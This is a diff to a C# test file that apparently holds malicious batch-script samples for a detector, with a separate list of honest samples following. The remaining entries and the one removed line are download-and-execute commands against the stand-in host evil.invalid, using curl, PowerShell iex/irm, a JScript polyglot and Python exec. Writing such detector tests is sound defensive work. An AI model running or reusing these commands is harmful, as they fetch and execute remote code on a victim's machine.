@@ -51,7 +51,6 @@ public sealed class BatchTests
         "@if (@X)==(@Y) @end /* JScript\r\n@cscript //nologo //e:jscript \"%~f0\" & exit /b\r\n*/\r\nvar s=new ActiveXObject('WScript.Shell'); s.Run('cmd /c curl -o a.exe http://evil.invalid/a.exe && a.exe',0);",
         "powershell -c \"$c=gc '%~f0' -Raw; iex ($c -split '::PS')[-1]\"\r\nexit /b\r\n::PS\r\niex (irm http://evil.invalid/x)\r\n",
         "forfiles /p c:\\windows /m notepad.exe /c \"cmd /c curl -o %temp%\\a.exe http://evil.invalid/a.exe && %temp%\\a.exe\"",
-        "python -c \"import urllib.request as u;exec(u.urlopen('http://evil.invalid/p').read())\"",
     ];
 
     public static TheoryData<string> Honest =>
